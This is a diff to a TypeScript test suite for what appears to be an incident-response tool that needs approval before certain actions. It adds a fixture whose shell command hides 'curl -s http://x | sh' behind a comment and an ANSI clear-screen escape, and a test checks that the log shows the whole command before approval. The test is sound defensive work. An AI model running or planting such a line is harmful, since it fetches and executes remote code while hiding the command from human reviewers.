@@ -11,6 +11,14 @@ const SHADY = makeFinding('process:2', { verdict: 'suspicious', title: 'sh (900)
 const FINE = makeFinding('process:3', { verdict: 'benign', title: 'apt (1190)', score: 5 });
 const BLOCK: OperationTarget = { kind: 'block-address', address: '10.66.0.9' };
 const KILL: OperationTarget = { kind: 'kill-process', process: makeProcess(812, 'kworkerds') };
+const RUN: OperationTarget = {
+  ...{
+    kind: 'run-command',
+    command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
+  },
+  ...{ environment: {}, secretNames: [], workingFolder: null, timeoutMs: 1000, risk: 'reversible' },
+  ...{ verify: null, undo: null },
+};
 const COLLECT: OperationTarget = { kind: 'collect-process', process: makeProcess(812, 'kworkerds') };
 
 async function run(script: Script, options: Partial<HeadlessOptions> = {}) {
@@ -89,6 +97,14 @@ describe('what may be done unattended', () => {
     expect(handle.leftBecause).not.toBeNull();
     expect(handle.commands).toEqual([]);
     expect(lines.at(-1)).toMatch(/^needs-approval: Act is irreversible/);
+  });
+
+  test('a command of the playbook stands whole in the log before it is approved', async () => {
+    const { text } = await run(oneStep([RUN]));
+    const shown = text.indexOf('| first line\n         | curl -s http://x | sh #\\x1b[2J\n');
+    expect(shown).toBeGreaterThan(0);
+    expect(text.indexOf('|  last line\n')).toBeGreaterThan(shown);
+    expect(text.indexOf('plan approved')).toBeGreaterThan(text.indexOf('|  last line\n'));
   });
 
   test('what a person is asked twice for needs --max-risk irreversible, and says what would be left', async () => {
